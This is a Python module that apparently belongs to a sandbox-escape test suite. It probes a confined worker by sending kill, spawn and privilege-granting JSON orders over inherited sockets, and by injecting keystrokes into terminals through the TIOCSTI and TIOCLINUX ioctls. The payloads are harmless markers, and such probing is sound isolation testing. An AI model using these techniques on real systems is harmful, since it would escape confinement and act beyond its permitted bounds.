"""Attacks through descriptors: control channels that a worker should not have, and terminals."""

import fcntl
import json
import os
import socket
import stat
import termios
from typing import Any

from kit import Report

_OWN_SOCKET = 3
_TIOCLINUX = 0x541C


def control_channels(report: Report, targets: dict[str, Any]) -> None:
    """Looks for inherited descriptors, and gives orders to whoever may be at their other end."""
    del targets
    report.attempt_here("descriptors that are none of its own", _strangers)
    orders = [{"kill": number} for number in range(1, 40)]
    orders += [{"spawn": 9999, "cwd": "/", "argv": ["/usr/bin/touch", "/tmp/ordered"]}]
    orders += [{"admit": number, "trees": [["/", "fn"]], "egress": {"mode": "public"}} for number in range(1, 40)]
    for descriptor in range(_OWN_SOCKET + 1, 1024):
        try:
            is_socket = stat.S_ISSOCK(os.fstat(descriptor).st_mode)
        except OSError:
            continue
        if is_socket:
            for order in orders:
                _send(descriptor, json.dumps(order).encode())


def terminals(report: Report, targets: dict[str, Any]) -> None:
    """Types into a terminal: its own, the platform's, any in sight."""
    for path in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/vcs", "/dev/ttyS0", *targets["terminals"]):
        for name, request, argument in (
            ("TIOCSTI", termios.TIOCSTI, b"#"),
            ("TIOCLINUX", _TIOCLINUX, b"\x03" + bytes(15)),
        ):
            report.attempt(f"{name} on {path}", lambda path=path, r=request, a=argument: _push(path, r, a))
    for descriptor in range(_OWN_SOCKET + 1):
        report.attempt(f"TIOCSTI on {descriptor}", lambda d=descriptor: fcntl.ioctl(d, termios.TIOCSTI, b"#") and "got")


def _strangers() -> list[str]:
    """Returns the open descriptors but those a worker is known to have, and those its runtime has made for itself."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            place = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        expected = {"0": "/dev/null", "1": "pipe:", "2": "pipe:", "3": "socket:"}.get(name)
        known = expected is not None and place.startswith(expected)
        if not known and not place.endswith(("/fd", "[eventpoll]", "[eventfd]")):
            found.append(f"{name} {place}")
    return found


def _send(descriptor: int, data: bytes) -> None:
    with socket.socket(fileno=os.dup(descriptor)) as sock:
        sock.setblocking(False)
        try:
            sock.send(data)
        except OSError:
            return


def _push(path: str, request: int, argument: bytes) -> str:
    descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        fcntl.ioctl(descriptor, request, argument)
    finally:
        os.close(descriptor)
    return "pushed"
